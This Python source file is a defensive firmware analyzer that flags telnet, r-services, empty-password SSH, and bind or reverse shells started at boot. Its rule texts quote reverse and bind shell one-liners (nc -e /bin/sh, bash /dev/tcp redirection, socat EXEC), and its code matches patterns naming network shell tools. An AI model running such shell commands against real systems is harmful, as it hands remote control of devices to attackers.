"""FP-SVC: remote shells and logins started at boot, from cron or from inetd.

Every finding points at the line that starts the service (a boot script, inittab,
a unit file, inetd.conf, a crontab) and carries the chain that leads there.
"""

from __future__ import annotations

import itertools
import posixpath
import re
from collections.abc import Iterator, Mapping
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

from firmproof.analyzers.base import Analyzer, rule
from firmproof.device import binary
from firmproof.device.bootchain import SHELLS, Invocation, Step, boot_chain
from firmproof.device.parsers.elfsyms import read_symbols
from firmproof.device.parsers.shell import split_words
from firmproof.fs.filetype import ELF
from firmproof.fs.rootfs import RootFS
from firmproof.model import Category, Finding, Rule, Severity

_DATA = Path(__file__).resolve().parent.parent / "data"  # package data, not image content
_CWE = "https://cwe.mitre.org/data/definitions/{}.html"
_BUSYBOX = "https://busybox.net/downloads/BusyBox.html"

TELNETD_WITHOUT_AUTH = rule(
    "FP-SVC-001", Category.REMOTE_SHELL, Severity.CRITICAL,
    title="telnetd started at boot without authentication",
    why="""`telnetd -l /bin/sh` runs a shell instead of a login program: whoever reaches the
        port gets a root shell without any password, in clear text.""",
    confirm="""Read the quoted line and its chain (`details.chain`) from init down to it; check that
        the `-l` program is a shell (`details.login`) and that nothing earlier on the chain
        prevents the line from running. On a device: `telnet <ip> <port>` gives a prompt at once.""",
    references=[_BUSYBOX, _CWE.format(306), _CWE.format(912)],
)
TELNETD_AT_BOOT = rule(
    "FP-SVC-002", Category.REMOTE_SHELL, Severity.HIGH,
    title="telnetd started at boot",
    why="""A telnet server started at boot offers a login over a clear-text protocol; with the
        default or hard-coded passwords of embedded devices it is the classic way in (Mirai).
        Severity drops to info for the stock OpenWrt script, which starts it only while root
        has no password (`details.guard`), and for OpenWrt's failsafe mode
        (`/lib/preinit/*failsafe*`), which runs only when someone at the device presses the
        reset button during boot (`details.mode`).""",
    confirm="""Read the quoted line and the chain that runs it; `details.login` names the login program
        and `details.port` the port. Check the accounts of the image for weak or empty passwords.""",
    references=[_BUSYBOX, _CWE.format(319), "https://openwrt.org/docs/guide-quick-start/walkthrough_login"],
)
R_SERVICES = rule(
    "FP-SVC-003", Category.REMOTE_SHELL, Severity.CRITICAL,
    title="rsh/rlogin/rexec server started",
    why="""The Berkeley r-services trust host names and `.rhosts` files and send everything in clear
        text; rshd and rexecd run commands for the remote side. No device should ship them enabled.""",
    confirm="""Read the quoted line (boot script or inetd.conf entry) and the chain; look for
        /etc/hosts.equiv and ~/.rhosts in the image.""",
    references=[_CWE.format(287), _CWE.format(319)],
)
SSH_EMPTY_PASSWORDS = rule(
    "FP-SVC-004", Category.REMOTE_SHELL, Severity.HIGH,
    title="SSH server accepts empty passwords",
    why="""`dropbear -B` or `PermitEmptyPasswords yes` lets any account without a password log in
        over the network; embedded images often ship root with an empty password.""",
    confirm="""Read the quoted line; then check /etc/shadow (or /etc/passwd) of the image for accounts
        with an empty password field.""",
    references=["https://man.openbsd.org/sshd_config#PermitEmptyPasswords", _CWE.format(258)],
)
SSH_AT_BOOT = rule(
    "FP-SVC-005", Category.REMOTE_SHELL, Severity.INFO,
    title="SSH server started at boot with password logins",
    why="""Not a backdoor by itself: an SSH server that accepts passwords is as strong as the
        passwords of the image, so it is listed to be read together with the credential findings.""",
    confirm="""Read the quoted line: `details.password_auth` says whether passwords are accepted,
        `details.root_login` whether root may log in.""",
    references=["https://matt.ucc.asn.au/dropbear/dropbear.html", "https://man.openbsd.org/sshd"],
)
BIND_SHELL = rule(
    "FP-SVC-006", Category.REMOTE_SHELL, Severity.CRITICAL,
    title="shell served on a network port (bind shell) at boot",
    why="""`nc -l -p 9999 -e /bin/sh`, `socat TCP-LISTEN:…,fork EXEC:/bin/sh`, a fifo piped through
        `nc -l`, or inetd serving /bin/sh: whoever connects to the port gets a shell with the rights
        of the service (root at boot), with no authentication.""",
    confirm="""Read the quoted line and the chain that runs it; `details.port` is where the shell
        listens. On a device: connect to the port and type `id`.""",
    references=["https://attack.mitre.org/techniques/T1059/004/", _CWE.format(306), _CWE.format(912)],
)
REVERSE_SHELL = rule(
    "FP-SVC-007", Category.REMOTE_SHELL, Severity.CRITICAL,
    title="reverse shell started at boot or from cron",
    why="""`nc HOST PORT -e /bin/sh`, `bash -i >& /dev/tcp/HOST/PORT 0>&1` or `socat EXEC:sh TCP:HOST:PORT`
        hands a shell to a remote host: the device calls out to whoever controls `details.host`.""",
    confirm="""Read the quoted line and its chain; `details.host` and `details.port` name the remote
        end. Nothing legitimate ships such a line.""",
    references=["https://attack.mitre.org/techniques/T1059/004/", _CWE.format(912)],
)
BIND_SHELL_PROGRAM = rule(
    "FP-SVC-008", Category.REMOTE_SHELL, Severity.CRITICAL,
    title="unknown program started at boot binds a port and runs a shell",
    why="""A program that is no known daemon, started by the boot chain, imports socket, bind and
        listen/accept, dup2/dup3 (to put the accepted socket on the shell's stdin and stdout)
        and an exec function, and holds the string of a shell: the shape of a compiled bind
        shell. A daemon that runs commands with system() but never redirects a socket onto its
        standard streams does not match. A program given alone as the image has no boot chain:
        its bind shell is reported at its shell string, `details.reached` false.""",
    confirm="""Read the quoted boot line; `details.binary` is the program and `details.binary_sha256`
        its hash. Disassemble it (or run it in an emulator) and look for the bind/accept loop
        that dup2()s the socket onto 0/1/2 before exec'ing the shell.""",
    references=["https://attack.mitre.org/techniques/T1059/004/", _CWE.format(912)],
)
CONNECT_BACK_PROGRAM = rule(
    "FP-SVC-009", Category.REMOTE_SHELL, Severity.CRITICAL,
    title="program started at boot connects out and gives the connection a shell",
    why="""A program that is no known daemon, started by the boot chain, calls connect() and, in the
        same function or one it calls, either dup2()/dup3() (the socket onto its standard
        streams) and an exec function, or popen()/system() of a command that is no literal where
        it receives from the connection: the shape of a compiled reverse shell or C2 client,
        which gives a shell to whoever holds the address it dials (`details.gives`: dup2 or
        pipe). Static, stripped programs are read the same way, their libc calls named by the
        system calls of their wrappers. A client that connects and only sends or receives data,
        or runs fixed commands, does not match. A program given alone as the image has no boot
        chain: its shell is reported at its shell string (or the address it dials),
        `details.reached` false.""",
    confirm="""Read the quoted boot line; `details.binary` is the program, `details.connect_site`
        the connect() call and `details.address`/`details.port` the literal it dials when it
        could be read. Disassemble the function at `details.function` (`r2 -A <file>; s
        <function>; pdf`) and check that the connected socket is dup2()ed onto 0/1/2 before the
        shell is exec'ed; on a test network, run it under qemu-user and listen on the address.""",
    references=["https://attack.mitre.org/techniques/T1059/004/",
                "https://attack.mitre.org/techniques/T1071/", _CWE.format(912)],
)

TELNETD_NAMES = frozenset({"telnetd", "utelnetd", "in.telnetd", "telnetd.busybox"})
R_NAMES = frozenset({"rshd", "in.rshd", "rlogind", "in.rlogind", "rexecd", "in.rexecd"})
NC_NAMES = frozenset({"nc", "netcat", "ncat", "nc.traditional", "nc.openbsd", "pnc"})
_NC_VALUE_OPTS = set("ecgGiopswqIMmOPTVXx")
_NC_LONG_VALUE_OPTS = frozenset({"exec", "sh-exec", "lua-exec", "source", "source-port", "wait",
                                 "idle-timeout", "proxy", "proxy-type", "proxy-auth", "output",
                                 "hex-dump", "max-conns", "allow", "allowfile", "deny", "denyfile"})
_TELNETD_VALUE_OPTS = set("lpbfwuPtL")
_EXEC_IMPORTS = ("execve", "execl", "execlp", "execle", "execv", "execvp", "execvpe", "system",
                 "popen", "posix_spawn", "posix_spawnp")
def _may_import_a_bind_shell(data: bytes) -> bool:
    """Cheap test before parsing the ELF: the symbol names a bind shell imports are
    NUL-terminated strings of its string tables (linkers may share a tail between names, so
    only the end is anchored); without them no parse can find them."""
    return (b"socket\0" in data and b"bind\0" in data
            and (b"dup2\0" in data or b"dup3\0" in data))


_SHELL_STRING = re.compile(rb"/bin/(?:ba|a|da|k|mk|z)?sh(?![A-Za-z0-9_])")
_DEV_TCP = re.compile(r"^/dev/(tcp|udp)/([^/]+)/(\d+)")
_SOCAT_CONNECT = frozenset({"TCP", "TCP4", "TCP6", "TCP-CONNECT", "TCP4-CONNECT", "TCP6-CONNECT",
                            "OPENSSL", "OPENSSL-CONNECT", "SSL", "UDP", "UDP4", "UDP6",
                            "UDP-CONNECT", "SCTP", "SCTP-CONNECT"})
_DETAILS_TEXT_MAX = 200
_SCRIPT_DIRS = ("/etc/init.d/", "/etc/rc.d/", "/etc/rc", "/etc/init/", "/etc/sv/")


@cache
def known_daemons() -> frozenset[str]:
    text = (_DATA / "known-daemons.txt").read_text("utf-8")
    return frozenset(line.strip() for line in text.splitlines()
                     if line.strip() and not line.startswith("#"))


def _options(args: tuple[str, ...] | list[str], with_value: set[str] | frozenset[str],
             maybe_value: set[str] | frozenset[str] = frozenset(),
             long_with_value: frozenset[str] = frozenset()) -> tuple[dict[str, str | bool], list[str]]:
    """getopt-like: short options (grouped or not), '--long[=value]', positional arguments."""
    opts: dict[str, str | bool] = {}
    positional: list[str] = []
    i = 0
    while i < len(args):
        a = args[i]
        if a == "--":
            positional.extend(args[i + 1:])
            break
        if a.startswith("--") and len(a) > 2:
            name, eq, value = a[2:].partition("=")
            if not eq and name in long_with_value and i + 1 < len(args):
                i += 1
                value, eq = args[i], "="
            opts[name] = value if eq else True
        elif a.startswith("-") and len(a) > 1:
            letters = a[1:]
            for j, ch in enumerate(letters):
                takes = ch in with_value or (ch in maybe_value and j == len(letters) - 1
                                             and i + 1 < len(args) and not args[i + 1].startswith("-"))
                if takes:
                    value = letters[j + 1:]
                    if not value and i + 1 < len(args):
                        i += 1
                        value = args[i]
                    opts[ch] = value
                    break
                opts[ch] = True
        else:
            positional.append(a)
        i += 1
    return opts, positional


def _port(value: object) -> int | None:
    if isinstance(value, str):
        tail = value.rsplit(":", 1)[-1]
        if tail.isdigit():
            return int(tail)
    return None


def _is_shell(command: str) -> bool:
    """True when a program (or a command string) is a shell: sh, ash, bash, 'busybox sh'…"""
    words = split_words(command) if " " in command.strip() else [command.strip()]
    if not words:
        return False
    name = posixpath.basename(words[0].lstrip("-"))
    if name == "busybox" and len(words) > 1:
        name = posixpath.basename(words[1])
    return name in SHELLS


def _interactive_shell(inv: Invocation) -> bool:
    """A shell reading commands from its input: `sh`, `sh -i`, `/bin/bash -i` (not `sh script`)."""
    if not inv.argv or posixpath.basename(inv.argv[0].lstrip("-")) not in SHELLS:
        return False
    return all(a.startswith("-") and a != "-c" for a in inv.argv[1:])


def _clip(text: str) -> str:
    return text if len(text) <= _DETAILS_TEXT_MAX else text[:_DETAILS_TEXT_MAX] + "…"


class Services(Analyzer):
    family = "SVC"
    name = "services"
    on_device = "boot"
    reads_boot_chain = True
    rules = (TELNETD_WITHOUT_AUTH, TELNETD_AT_BOOT, R_SERVICES, SSH_EMPTY_PASSWORDS, SSH_AT_BOOT,
             BIND_SHELL, REVERSE_SHELL, BIND_SHELL_PROGRAM, CONNECT_BACK_PROGRAM)

    def run(self, fs: RootFS) -> Iterator[Finding]:
        seen: set[tuple[str, str, int, int]] = set()
        checked_binaries: dict[str, dict[str, Any] | None] = {}
        chain = boot_chain(fs)
        # one finding per rule, file and program: the same daemon started from two branches of
        # one script (`if …; then telnetd -u …; else telnetd; fi`) is one cause, its other lines
        # listed in the first one's details
        first: dict[tuple[str, str, str], int] = {}
        found: list[Finding] = []
        for step in chain.steps:
            if chain.absent(fs, step):
                continue        # `[ -x /usr/sbin/telnetd ] && telnetd …` in an image without it
            for finding in self._step(fs, step, checked_binaries, chain.scripts):
                key = (finding.rule.id, finding.path, finding.evidence.offset, finding.evidence.length)
                if key in seen:
                    continue
                seen.add(key)
                cause = (finding.rule.id, finding.path, step.name)
                if cause in first:
                    at = first[cause]
                    others = [*found[at].details.get("also_at", ()),
                              {"offset": finding.evidence.offset, "length": finding.evidence.length,
                               "line": finding.evidence.excerpt}]
                    found[at] = replace(found[at], details={**found[at].details, "also_at": others})
                else:
                    first[cause] = len(found)
                    found.append(finding)
        yield from found
        if not chain.steps:
            yield from self._alone(fs, checked_binaries)
        yield from self._sshd_configs(fs)

    def _alone(self, fs: RootFS, binaries: dict[str, dict[str, Any] | None]) -> Iterator[Finding]:
        """A program given as the image (its own one-file layer, `elf@0x0`, packed or not):
        there is no boot chain to say whether it starts, and nothing says it does not, so its
        bind or connect-back shell is reported at the program's shell string (or the address
        it dials), marked not reached, as a script in a tree without init is."""
        if len(fs.container) != 2 or not fs.container[1].startswith("elf@"):
            return      # (a packed program inside a file system is read through its boot chain)
        programs = list(itertools.islice(fs.files(), 2))
        if len(programs) != 1 or programs[0].ftype != ELF:
            return
        path = programs[0].path
        found = self._bind_shell_binary(fs, path, binaries)
        if found is None:
            return
        r = CONNECT_BACK_PROGRAM if found.get("shape") == "connect-back" else BIND_SHELL_PROGRAM
        if "shell_string_offset" in found:
            offset, length = found["shell_string_offset"], len(found["shell_string"])
        elif found.get("address") and \
                (at := (fs.read(path) or b"").find(found["address"].encode() + b"\0")) >= 0:
            offset, length = at, len(found["address"])
        else:
            return
        title = ("unknown program binds a port and runs a shell" if r is BIND_SHELL_PROGRAM else
                 "program connects out and gives the connection a shell")
        yield r.at(fs, path, offset, length, title=title + " (given alone: no boot chain to read)",
                   binary=path, binary_sha256=fs.sha256(path), reached=False,
                   note="the program was given alone: no boot chain says whether it starts", **found)

    # one step ----------------------------------------------------------------------

    def _step(self, fs: RootFS, step: Step, binaries: dict[str, dict[str, Any] | None],
              scripts: Mapping[str, tuple[str, ...]]) -> Iterator[Finding]:
        name = step.name
        if (step.binary is not None and step.binary in scripts) or \
                (step.program is None and step.argv[0].startswith(_SCRIPT_DIRS)):
            # an init script named after its daemon (/etc/init.d/dropbear enabled): not the daemon
            yield from self._shells(fs, step)
            return
        if name in TELNETD_NAMES:
            yield self._telnetd(fs, step)
        elif name in R_NAMES:
            yield self._at(R_SERVICES, fs, step, service=name)
        elif name in ("dropbear", "sshd") or (name == "dropbearmulti" and step.argv[1:2] == ("dropbear",)):
            yield self._ssh(fs, step)
        yield from self._shells(fs, step)
        if step.binary is not None and name not in known_daemons():
            found = self._bind_shell_binary(fs, step.binary, binaries)
            if found is not None:
                r = CONNECT_BACK_PROGRAM if found.get("shape") == "connect-back" else BIND_SHELL_PROGRAM
                # a packed program: the device view reads the program unpacked from it, and
                # names the packed file's bytes too
                entry = fs.stat(step.binary)
                packed: dict[str, Any] = {k: v for k, v in (entry.detail if entry is not None else {}).items()
                                          if k in ("packed", "packed_sha256")}
                yield self._at(r, fs, step, binary=step.program or step.binary,
                               binary_sha256=fs.sha256(step.binary), **packed, **found)

    def _common(self, step: Step) -> dict[str, Any]:
        details: dict[str, Any] = {"chain": list(step.full_chain), "via": step.via,
                                   "command": _clip(" ".join(step.argv))}
        if step.conditions:
            details["conditions"] = [_clip(f"{kind} {text}") for kind, text in step.conditions]
        if not step.reached:
            details["reached"] = False
            details["note"] = ("no init in this tree: the script is treated as started at boot "
                               "because nothing here says otherwise")
        return details

    def _at(self, r: Rule, fs: RootFS, step: Step, *, severity: Severity | None = None,
            title: str | None = None, **details: Any) -> Finding:
        merged = self._common(step)
        merged.update(details)
        return r.at(fs, step.path, step.start, step.end - step.start, title=title, severity=severity,
                    **merged)

    def _telnetd(self, fs: RootFS, step: Step) -> Finding:
        opts, _ = _options(step.argv[1:], _TELNETD_VALUE_OPTS, maybe_value={"i"})
        login_opt = opts.get("L") if step.name == "in.telnetd" and "L" in opts else opts.get("l")
        login = login_opt if isinstance(login_opt, str) else "/bin/login"
        auth: bool | None = None if "$" in login else not _is_shell(login)
        port = _port(opts.get("p")) or step.port or 23
        details: dict[str, Any] = {"auth": auth, "login": login, "port": port}
        if isinstance(opts.get("u"), str):
            details["fixed_account"] = str(opts["u"]).split(":", 1)[0]
        if auth is False:
            return self._at(TELNETD_WITHOUT_AUTH, fs, step, **details)
        guard = next((text for kind, text in step.conditions if "has_root_pwd" in text), None)
        if guard is not None:
            details["guard"] = _clip(guard)
            return self._at(TELNETD_AT_BOOT, fs, step, severity=Severity.INFO,
                            title="telnetd started at boot only while root has no password", **details)
        if step.path.startswith("/lib/preinit/") and "failsafe" in posixpath.basename(step.path):
            details["mode"] = "failsafe"
            return self._at(TELNETD_AT_BOOT, fs, step, severity=Severity.INFO,
                            title="telnetd of OpenWrt's failsafe mode (physical access at boot)", **details)
        return self._at(TELNETD_AT_BOOT, fs, step, **details)

    def _ssh(self, fs: RootFS, step: Step) -> Finding:
        args = step.argv[2:] if step.name == "dropbearmulti" else step.argv[1:]
        if step.name in ("dropbear", "dropbearmulti"):
            opts, _ = _options(args, set("pPrbdRWKIJcTa"))
            port = _port(opts.get("p")) or 22
            if "B" in opts:
                return self._at(SSH_EMPTY_PASSWORDS, fs, step, server="dropbear", port=port,
                                option="-B")
            return self._at(SSH_AT_BOOT, fs, step, server="dropbear", port=port,
                            password_auth="s" not in opts, root_login="w" not in opts,
                            root_password_auth="s" not in opts and "g" not in opts)
        opts, _ = _options(args, set("bcCEfgHhikoOpuV"))
        config_path = opts.get("f") if isinstance(opts.get("f"), str) else "/etc/ssh/sshd_config"
        settings = _sshd_settings(fs.text(str(config_path)) or "")
        password = settings.get("passwordauthentication", ("yes", 0, 0))[0].lower() != "no"
        root = settings.get("permitrootlogin", ("prohibit-password", 0, 0))[0].lower()
        return self._at(SSH_AT_BOOT, fs, step, server="sshd", port=_port(opts.get("p")) or 22,
                        password_auth=password, root_login=root)

    # shells on the network ---------------------------------------------------------

    def _shells(self, fs: RootFS, step: Step) -> Iterator[Finding]:
        own = Invocation(step.argv, step.redirects, step.pipeline)
        # a service manager (inetd, xinetd, a socket unit) serving a shell on a port
        if step.port is not None and _interactive_shell(own):
            yield self._at(BIND_SHELL, fs, step, port=step.port, shell=step.argv[0])
            return
        name = step.name
        if name in NC_NAMES:
            yield from self._netcat(fs, step, own)
        elif name == "socat":
            yield from self._socat(fs, step)
        elif name == "telnet" and any(_interactive_shell(i) for i in step.line):
            _, positional = _options(step.argv[1:], set("belnX"))
            yield self._at(REVERSE_SHELL, fs, step, host=positional[0] if positional else None,
                           port=_port(positional[1]) if len(positional) > 1 else 23, tool="telnet")
        for target in (t for _, t in step.redirects):
            m = _DEV_TCP.match(target)
            if m and (_interactive_shell(own) or any(_interactive_shell(i) for i in step.line)):
                yield self._at(REVERSE_SHELL, fs, step, host=m.group(2), port=int(m.group(3)),
                               protocol=m.group(1), tool="/dev/" + m.group(1))

    def _netcat(self, fs: RootFS, step: Step, own: Invocation) -> Iterator[Finding]:
        opts, positional = _options(step.argv[1:], _NC_VALUE_OPTS, long_with_value=_NC_LONG_VALUE_OPTS)
        listen = "l" in opts or "listen" in opts
        program = next((v for k, v in opts.items()
                        if k in ("e", "c", "exec", "sh-exec") and isinstance(v, str)), None)
        shell_exec = program is not None and _is_shell(program)
        shell_piped = any(_interactive_shell(i) for i in step.line if i != own)
        if not (shell_exec or shell_piped):
            return
        numbers = [p for p in positional if p.isdigit()]
        hosts = [p for p in positional if not p.isdigit()]
        port = _port(opts.get("p")) or (int(numbers[-1]) if numbers else None)
        how = "exec" if shell_exec else "pipe"
        if listen:
            yield self._at(BIND_SHELL, fs, step, port=port, tool=step.name, shell=program, how=how)
        elif hosts:
            yield self._at(REVERSE_SHELL, fs, step, host=hosts[0], port=port, tool=step.name,
                           shell=program, how=how)

    def _socat(self, fs: RootFS, step: Step) -> Iterator[Finding]:
        _, addresses = _options(step.argv[1:], set("dlLtTUbW"))
        listen_port: int | None = None
        connect: tuple[str, int | None] | None = None
        shell: str | None = None
        for address in addresses:
            head, _, rest = address.partition(":")
            kind = head.split(",")[0].upper()
            if kind.endswith(("-LISTEN", "-L")):
                listen_port = _port(rest.split(",")[0]) or listen_port or 0
            elif kind in ("EXEC", "SYSTEM"):
                command = rest.split(",")[0].strip("'\"")
                if _is_shell(command):
                    shell = command
            elif kind in _SOCAT_CONNECT:
                host, _, port = rest.split(",")[0].rpartition(":")
                connect = (host, int(port) if port.isdigit() else None)
        if shell is None:
            return
        if listen_port is not None:
            yield self._at(BIND_SHELL, fs, step, port=listen_port or None, tool="socat", shell=shell)
        elif connect is not None:
            yield self._at(REVERSE_SHELL, fs, step, host=connect[0], port=connect[1], tool="socat",
                           shell=shell)

    # compiled bind shells ----------------------------------------------------------

    @staticmethod
    def _bind_shell_binary(fs: RootFS, path: str,
                           cache_: dict[str, dict[str, Any] | None]) -> dict[str, Any] | None:
        """FP-SVC-008's bind shell, or (`shape` connect-back) FP-SVC-009's reverse shell."""
        if path in cache_:
            return cache_[path]
        result: dict[str, Any] | None = None
        entry = fs.stat(path)
        data = fs.read(path) if entry is not None and entry.ftype == ELF else None
        if data is None or posixpath.basename(path) in known_daemons() or b"BusyBox v" in data:
            pass
        elif _may_import_a_bind_shell(data) or _may_import_a_connect_back(data):
            symbols = read_symbols(data)
            shell = _SHELL_STRING.search(data)
            imports = symbols.imports if symbols is not None else frozenset()
            execs = sorted(n for n in _EXEC_IMPORTS if n in imports)
            if symbols is not None and shell is not None:
                if ({"socket", "bind"} <= imports and imports & {"listen", "accept", "accept4"}
                        and imports & {"dup2", "dup3"} and execs):
                    result = {
                        "imports": sorted(n for n in ("socket", "bind", "listen", "accept", "accept4",
                                                      "dup2", "dup3", *execs) if n in imports),
                        "symbols_from": symbols.source,
                        "shell_string": shell.group().decode("latin-1"),
                        "shell_string_offset": shell.start(),
                    }
            if result is None and "connect" in imports and (
                    (shell is not None and imports & {"dup2", "dup3"} and execs)
                    or (imports & _PIPE_RUN and imports & _RECEIVE)):
                result = _connect_back(fs, path, shell)
        elif len(data) <= _STATIC_MAX and (shell := _SHELL_STRING.search(data)) is not None:
            result = _static_shell(fs, path, shell)
        cache_[path] = result
        return result

    # sshd_config -------------------------------------------------------------------

    def _sshd_configs(self, fs: RootFS) -> Iterator[Finding]:
        for entry in fs.files():
            if entry.name != "sshd_config":
                continue
            text = fs.text(entry.path) or ""
            settings = _sshd_settings(text)
            value, start, end = settings.get("permitemptypasswords", ("no", 0, 0))
            if value.lower() == "yes" and end > start:
                root = settings.get("permitrootlogin", ("prohibit-password", 0, 0))[0]
                yield SSH_EMPTY_PASSWORDS.at(fs, entry.path, start, end - start, server="sshd",
                                             option="PermitEmptyPasswords yes", permit_root_login=root)


def _may_import_a_connect_back(data: bytes) -> bool:
    return b"connect\0" in data and (b"dup2\0" in data or b"dup3\0" in data or b"popen\0" in data
                                     or b"system\0" in data)


_PIPE_RUN = frozenset({"popen", "system"})
_RECEIVE = frozenset({"recv", "recvfrom", "recvmsg", "read"})


_STATIC_MAX = 4 << 20      # a static program larger than this is not read (a BusyBox-sized suite)
_STATIC_EXEC = ("execve", "execv", "system")
_ADDRESS = re.compile(r"^(?:\d{1,3}\.){3}\d{1,3}$|^[a-z0-9][a-z0-9.-]*\.[a-z]{2,}$", re.I)


def _shell_function(exe: binary.Executable, start: int | None, execs: tuple[str, ...]) -> int | None:
    """The function (`start` or one it calls directly) that calls dup2/dup3 and an exec function."""
    if start is None:
        return None
    dups = exe.callers("dup2", "dup3")
    runs = exe.callers(*execs)
    for function in (start, *sorted(exe.callees(start))):
        if function in dups and function in runs:
            return function
        if function in dups and any(t in runs for t in exe.callees(function)):
            return function
    return None


def _dialled(exe: binary.Executable, function: int) -> tuple[str | None, int | None]:
    """The address literal a function loads (an IPv4 or host name), and the htons() port."""
    code = exe.code
    address = None
    if code is not None:
        for site, value in code.xrefs:
            if exe.function_of(site) == function and (ref := exe.string_at(value)) is not None \
                    and _ADDRESS.match(ref.text):
                address = ref.text
                break
    ports = [a for c in exe.calls("htons") if exe.function_of(c.site) == function
             for a in c.args[:1] if isinstance(a, int) and 0 < a < 65536]
    return address, ports[0] if ports else None


def _piped_function(exe: binary.Executable, start: int | None, runs: tuple[str, ...]) -> int | None:
    """The function (`start` or one it calls directly) that hands what the connection received
    to a shell: popen()/system() of a command that is no literal, where a receive is made."""
    if start is None:
        return None
    functions = (start, *sorted(exe.callees(start)))
    received = exe.callers(*_RECEIVE)
    if not any(f in received for f in functions):
        return None
    for function, calls in exe.callers(*runs).items():
        if function in functions and any(
                not c.args or not (isinstance(c.args[0], int) and exe.string_at(c.args[0]) is not None)
                for c in calls):
            return function
    return None


def _connect_back(fs: RootFS, path: str, shell: re.Match[bytes] | None) -> dict[str, Any] | None:
    exe = binary.load(fs, path)
    if exe is None:
        return None
    execs = _STATIC_EXEC if exe.static else _EXEC_IMPORTS
    pipes = ("system",) if exe.static else tuple(sorted(_PIPE_RUN))
    for function, calls in sorted(exe.callers("connect").items(), key=lambda kv: kv[0] or 0):
        if function is None:
            continue
        how = "dup2"
        shelled = _shell_function(exe, function, execs) if shell is not None else None
        if shelled is None:
            how, shelled = "pipe", _piped_function(exe, function, pipes)
        if shelled is None:
            continue
        address, port = _dialled(exe, function)
        found: dict[str, Any] = {
            "shape": "connect-back", "gives": how, "connect_site": f"0x{calls[0].site:x}",
            "function": f"0x{function:x}", "shell_function": f"0x{shelled:x}",
            "address": address, "port": port, "static": exe.static}
        if shell is not None:
            found.update(shell_string=shell.group().decode("latin-1"), shell_string_offset=shell.start())
        return found
    return None


def _static_shell(fs: RootFS, path: str, shell: re.Match[bytes]) -> dict[str, Any] | None:
    """A static program: its libc calls named by their system calls (firmproof.device.binary.syscalls);
    a bind shell when a function that accepts puts a socket on a shell, else a connect-back.
    libc's own system()/posix_spawn hold "/bin/sh", a dup2 and an execve, but no accept or
    connect reaches them in one step."""
    exe = binary.load(fs, path)
    if exe is None or not exe.static:
        return None
    first = exe.syscall_names()
    if "socket" not in first or "execve" not in first:
        return None
    if exe.code is None:
        return None
    for function in sorted(f for f in exe.callers("accept", "accept4", "listen") if f is not None):
        shelled = _shell_function(exe, function, _STATIC_EXEC)
        if shelled is not None and exe.callers("socket", "bind"):
            return {"imports": [], "static": True, "function": f"0x{function:x}",
                    "shell_function": f"0x{shelled:x}", "symbols_from": "syscalls",
                    "calls": sorted(set(exe.wrappers.values())),
                    "shell_string": shell.group().decode("latin-1"), "shell_string_offset": shell.start()}
    return _connect_back(fs, path, shell)


def _sshd_settings(text: str) -> dict[str, tuple[str, int, int]]:
    """sshd_config keywords (lower case) -> (value, line start, line end); the first value wins,
    as sshd reads it; `Match` blocks are read too (they can only add a case where it applies)."""
    out: dict[str, tuple[str, int, int]] = {}
    pos = 0
    for raw in text.splitlines(keepends=True):
        line = raw.rstrip("\r\n")
        stripped = line.strip()
        if stripped and not stripped.startswith("#"):
            parts = re.split(r"[\s=]+", stripped, maxsplit=1)
            if len(parts) == 2:
                key = parts[0].lower()
                start = pos + (len(line) - len(line.lstrip()))
                if key == "permitemptypasswords" and parts[1].strip().lower() == "yes":
                    out[key] = (parts[1].strip(), start, start + len(stripped))
                else:
                    out.setdefault(key, (parts[1].strip(), start, start + len(stripped)))
        pos += len(raw)
    return out
